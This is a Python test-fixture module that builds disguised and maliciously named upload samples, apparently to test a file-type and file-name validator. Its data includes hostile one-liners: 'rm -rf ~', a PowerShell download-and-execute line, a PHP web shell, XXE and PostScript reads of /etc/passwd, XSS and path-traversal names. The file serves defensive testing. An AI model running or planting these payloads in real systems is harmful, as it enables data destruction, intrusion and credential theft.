"""Hostile files by kind and by name: programs, pages, scripts and archives under borrowed names."""

import gzip
import io
import tarfile

from tests.files.builders import Hostile, docx, jpeg, pdf, png, xlsx, zipped

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
EXE = b"MZ\x90\0\x03" + b"\0" * 60 + b"PE\0\0" + b"\0" * 400


def ole(stream: str) -> bytes:
    """An old compound file with one named stream in its directory."""
    return OLE + stream.encode("utf-16-le").ljust(512, b"\0")


def tar() -> bytes:
    """A tape archive."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("van-ban.txt"))
    return out.getvalue()


CONTENT: list[tuple[str, str, bytes, str]] = [
    ("windows program as PDF", "giay-moi.pdf", EXE, "windows_program"),
    ("windows program", "setup.exe", EXE, "windows_program"),
    ("linux program as picture", "anh.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 200, "linux_program"),
    ("mac program", "app", b"\xcf\xfa\xed\xfe" + b"\0" * 200, "linux_program"),
    ("java class", "A.pdf", b"\xca\xfe\xba\xbe\0\0\x004" + b"\0" * 90, "java_program"),
    ("android code", "A.docx", b"dex\n035\0" + b"\0" * 90, "java_program"),
    ("java archive", "A.docx", zipped({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0"}), "java_program"),
    ("shell script as text", "doc.txt", b"#!/bin/sh\nrm -rf ~\n", "script"),
    ("batch file", "chay.bat", b"@echo off\r\ndel /q *.*\r\n", "script"),
    ("powershell", "chay.ps1", b"iex (iwr http://a.example)", "script"),
    ("visual basic script", "thu.vbs", b'CreateObject("WScript.Shell").Run "calc"', "script"),
    ("javascript", "ma.js", b"alert(document.domain)", "javascript"),
    ("php as picture", "anh.png", b"<?php system($_GET['c']); ?>", "php"),
    ("php as text", "a.txt", b"xin chao <?php phpinfo();", "php"),
    ("shortcut", "Bao cao.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60, "shortcut"),
    ("internet shortcut", "a.url", b"[InternetShortcut]\r\nURL=http://a.example\r\n", "shortcut"),
    ("web page as PDF", "a.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "html"),
    ("web page as Word", "a.docx", b"<html><body onload=alert(1)>", "html"),
    ("web page as text", "a.txt", b"<html><script>alert(1)</script>", "text_markup"),
    ("web page in UTF-16", "a.pdf", "\ufeff<html><script>".encode("utf-16-le"), "html"),
    ("xhtml", "a.png", b'<?xml version="1.0"?><a xmlns="http://www.w3.org/1999/xhtml"/>', "xhtml"),
    ("svg with script", "a.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg"),
    ("svg", "a.svg", b'<?xml version="1.0"?><svg width="1"/>', "svg"),
    ("mht", "a.docx", b"From: x\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n", "mht"),
    ("e-mail", "a.pdf", b"Received: from a\nSubject: x\n\nxin chao", "email"),
    ("xml with outside entity", "a.docx", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "xml"),
    ("rich text with object", "a.docx", b"{\\rtf1{\\object\\objemb}}", "rtf"),
    ("gif with script", "a.gif", b"GIF89a/*\x01\0*/=1;alert(1)//", "gif"),
    ("gif bomb", "a.png", b"GIF89a\xff\xff\xff\xff" + b"\0" * 60, "gif"),
    ("webp", "a.jpg", b"RIFF\x24\0\0\0WEBPVP8 ", "webp"),
    ("heic", "IMG_01.jpg", b"\0\0\0\x18ftypheic\0\0\0\0", "heic"),
    ("tiff", "quet.tif", b"II*\0\x08\0\0\0", "tiff"),
    ("bitmap", "a.png", b"BM\x36\0\0\0\0\0\0\0", "bitmap"),
    ("photoshop", "a.png", b"8BPS\0\x01" + b"\0" * 30, "photoshop"),
    ("postscript", "a.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", "postscript"),
    ("film", "a.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0", "video"),
    ("sound", "a.mp3", b"ID3\x03\0\0\0\0\0\0", "audio"),
    ("font", "a.pdf", b"\0\x01\0\0\0\x0c\0\x80", "font"),
    ("database", "a.xlsx", b"SQLite format 3\0" + b"\0" * 90, "database"),
    ("rar", "a.docx", b"Rar!\x1a\x07\x01\0" + b"\0" * 30, "rar"),
    ("7z", "a.xlsx", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 30, "seven_zip"),
    ("gzip", "a.pdf", gzip.compress(b"x" * 100), "tar"),
    ("tar", "a.pdf", tar(), "tar"),
    ("cabinet", "a.docx", b"MSCF\0\0\0\0" + b"\0" * 30, "cabinet"),
    ("eicar as text", "a.txt", EICAR, "eicar"),
    ("eicar as PDF", "a.pdf", EICAR, "eicar"),
    ("old word", "a.doc", ole("WordDocument"), "old_word"),
    ("old word as docx", "a.docx", ole("WordDocument"), "old_word"),
    ("old excel", "a.xls", ole("Workbook"), "old_excel"),
    ("old powerpoint", "a.ppt", ole("PowerPoint Document"), "old_powerpoint"),
    ("outlook message", "a.msg", ole("__substg1.0_0037001F"), "outlook_mail"),
    ("locked word", "a.docx", ole("EncryptedPackage"), "office_locked"),
    ("unknown compound file", "a.docx", ole("Contents"), "old_compound"),
    ("nothing", "a.pdf", b"", "empty"),
    ("only zeros", "a.docx", b"\0" * 4096, "empty"),
    ("random bytes", "a.docx", bytes(range(1, 256)) + b"\0\x07", "unknown"),
    ("binary as text", "a.txt", b"xin chao\0\x01\x02\x03", "text_binary"),
    ("bell in text", "a.txt", b"xin chao\x07\x1b[2J", "text_binary"),
    ("text as Word", "a.docx", b"xin chao", "unknown"),
    ("text as PDF", "a.pdf", b"xin chao", "pdf_damaged"),
]  # fmt: skip


def by_content() -> list[Hostile]:
    """Content that is none of the accepted kinds."""
    return [Hostile(*row) for row in CONTENT]


def by_name() -> list[Hostile]:
    """Good content under names that do something, or that say something else."""
    good = pdf()
    table: list[tuple[str, str, bytes, str]] = [
        ("no name", "", good, "name_missing"),
        ("only dots", "...", good, "name_missing"),
        ("parent folder", "../../etc/cron.d/a.pdf", good, "name_parent"),
        ("parent folder of Windows", "..\\..\\a.pdf", good, "name_parent"),
        ("absolute", "/etc/passwd.pdf", good, "name_absolute"),
        ("drive", "C:\\fakepath\\a.pdf", good, "name_absolute"),
        ("folder", "thu/muc/a.pdf", good, "name_path"),
        ("nul", "a.pdf\0.exe", good, "name_nul"),
        ("two lines", "a\nSet-Cookie: x.pdf", good, "name_newline"),
        ("escape", "a\x1b[2J.pdf", good, "name_control"),
        ("stream", "a.pdf:an.exe", good, "name_stream"),
        ("device", "CON.pdf", good, "name_device"),
        ("device with number", "lpt1.docx", good, "name_device"),
        ("right to left", "bao-cao\u202efdp.exe", good, "name_bidi"),
        ("isolate", "bao\u2066cao.pdf", good, "name_bidi"),
        ("256 bytes", "ộ" * 84 + ".pdf", good, "name_long"),
        ("ends with dot", "a.pdf.", good, "name_dot_end"),
        ("markup", "<img src=x onerror=alert(1)>.pdf", good, "name_symbols"),
        ("pdf as docx", "a.docx", good, "name_extension"),
        ("docx as xlsx", "a.xlsx", docx(), "name_extension"),
        ("xlsx as pdf", "a.pdf", xlsx(), "name_extension"),
        ("jpg as png", "a.png", jpeg(), "name_extension"),
        ("png as pdf", "a.pdf", png(), "name_extension"),
        ("pdf as program", "a.pdf.exe", good, "name_unknown_extension"),
        ("pdf as page", "a.html", good, "name_unknown_extension"),
    ]
    return [Hostile(*row) for row in table]
